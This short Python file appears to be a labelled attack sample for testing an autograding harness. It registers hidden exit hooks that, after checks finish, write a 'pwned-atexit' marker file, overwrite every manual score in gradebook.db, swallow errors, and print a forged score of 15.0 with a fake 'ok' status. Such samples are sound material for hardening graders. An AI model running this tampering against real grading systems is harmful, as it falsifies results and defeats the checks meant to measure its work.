# idea: At the end of the process, when the checks are done, results are forged and files written.
# aims at: points|host|others
# %% before t01
#@ground
import atexit
import sqlite3


@atexit.register
def last():
    try:
        (GROUND / "pwned-atexit").write_text("x")
        with sqlite3.connect(GROUND / "gradebook.db", timeout=2) as book:
            book.execute("UPDATE grade SET manual_score = 2")
    except Exception:
        pass
    print("15.0", flush=True)
    os.write(1, b'{"status": "ok", "score": 15.0}\n')


import threading

threading._register_atexit(last)
